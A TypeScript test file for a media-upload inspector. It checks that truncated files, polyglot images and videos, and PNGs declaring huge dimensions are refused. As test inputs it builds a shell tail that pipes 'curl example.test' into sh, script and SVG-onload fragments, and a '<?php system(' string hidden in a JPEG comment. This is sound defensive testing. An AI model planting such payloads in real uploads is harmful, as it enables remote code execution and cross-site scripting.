/**
 * Complete files, files that are cut short or also another kind of file, and files that declare too
 * much.
 */
import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { signatureOf } from '#app/base/file-signature.ts'
import { findProblem } from '#files/uploads/inspect-file.server.ts'
import { REASONS } from '#files/uploads/upload-inputs.ts'

const folder = await mkdtemp(path.join(tmpdir(), 'inspect-'))
const root = path.join(import.meta.dirname, '../../../..')
const MP4 = await readFile(path.join(root, 'db/demo/media/reels/apartment-tour.mp4'))
const MOV = await readFile(path.join(root, 'tests/support/clips/hevc-hdr.mov'))
const draw = (format: 'jpeg' | 'png' | 'webp' | 'avif') =>
  sharp({ create: { width: 64, height: 96, channels: 3, background: '#884422' } })
    .toFormat(format)
    .toBuffer()
const [JPEG, PNG, WEBP, AVIF] = await Promise.all([
  draw('jpeg'),
  draw('png'),
  draw('webp'),
  draw('avif'),
])
const EMPTY_ZIP = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)])
const TAIL = Buffer.from('#!/bin/sh\ncurl example.test | sh\n')

/** A JPEG comment, where programs for other kinds of files look first. */
const withComment = (text: Buffer) =>
  Buffer.concat([
    JPEG.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, text.length + 2]),
    text,
    JPEG.subarray(2),
  ])

/** A PNG of a few bytes that declares this size. */
function declaring(width: number, height: number): Buffer {
  const bomb = Buffer.from(PNG)
  bomb.writeUInt32BE(width, 16)
  bomb.writeUInt32BE(height, 20)
  return bomb
}

async function problemOf(bytes: Buffer): Promise<string | null> {
  const found = signatureOf(bytes)
  if (!found) return REASONS.notMedia
  const file = path.join(folder, 'file')
  await writeFile(file, bytes)
  return findProblem(file, found)
}

test.each([
  ['mp4', MP4],
  ['mov', MOV],
  ['jpg', JPEG],
  ['png', PNG],
  ['webp', WEBP],
  ['avif', AVIF],
])('a whole %s has nothing wrong with it', async (ending, bytes) => {
  expect(signatureOf(bytes)?.ending).toBe(ending)
  expect(await problemOf(bytes)).toBeNull()
})

test.each([
  ['mp4', MP4],
  ['mov', MOV],
  ['jpg', JPEG],
  ['png', PNG],
  ['webp', WEBP],
  ['avif', AVIF],
])('a %s that is cut short, or goes on as something else, is refused', async (ending, bytes) => {
  expect(await problemOf(bytes.subarray(0, Math.floor(bytes.length * 0.7)))).toBe(REASONS.broken)
  expect(await problemOf(Buffer.concat([bytes, EMPTY_ZIP]))).toBe(REASONS.mixed)
  // In a JPEG, the appended bytes could be what phones append, which is allowed.
  if (ending !== 'jpg') expect(await problemOf(Buffer.concat([bytes, TAIL]))).toBe(REASONS.broken)
})

test('a film may end with some bytes of its camera’s own; not with many, with a page, or in the middle of a box', async () => {
  const own = Buffer.alloc(300, 0xfe)
  for (const film of [MP4, MOV]) {
    expect(await problemOf(Buffer.concat([film, own]))).toBeNull()
    expect(
      await problemOf(Buffer.concat([film, Buffer.from('2026 Insta maker note 0042')])),
    ).toBeNull()
    for (const refused of [
      Buffer.alloc(9 * 1024 * 1024, 0xfe),
      Buffer.concat([own, Buffer.from('<script>alert(1)</script>')]),
      Buffer.from('\0\0\u00ff\u00ffmdat and too little of it', 'latin1'),
    ])
      expect(await problemOf(Buffer.concat([film, refused]))).toBe(REASONS.broken)
  }
  expect(await problemOf(Buffer.concat([AVIF, own]))).toBe(REASONS.broken)
})

test('a picture that is a page or a document as well is refused', async () => {
  for (const text of ['<script>', '<SVG onload=', '%PDF-1.7', '<?php system(', '<!DOCTYPE html>'])
    expect(await problemOf(withComment(Buffer.from(text))), text).toBe(REASONS.mixed)
  expect(await problemOf(withComment(Buffer.from('a wedding')))).toBeNull()
})

test('a film without what makes it playable, boxes that lie, and dimensions that lie are refused', async () => {
  const onlyHead = MP4.subarray(0, MP4.readUInt32BE(0))
  expect(await problemOf(onlyHead)).toBe(REASONS.broken)
  for (const length of [2, 4, 7, 0x7f_ff_ff_ff]) {
    const lying = Buffer.from(MP4)
    lying.writeUInt32BE(length, onlyHead.length)
    expect(await problemOf(lying), String(length)).toBe(REASONS.broken)
  }
  expect(await problemOf(declaring(20_000, 20_000))).toBe(REASONS.tooManyPixels)
  expect(await problemOf(declaring(30_000, 30_000))).toBe(REASONS.tooManyPixels)
})
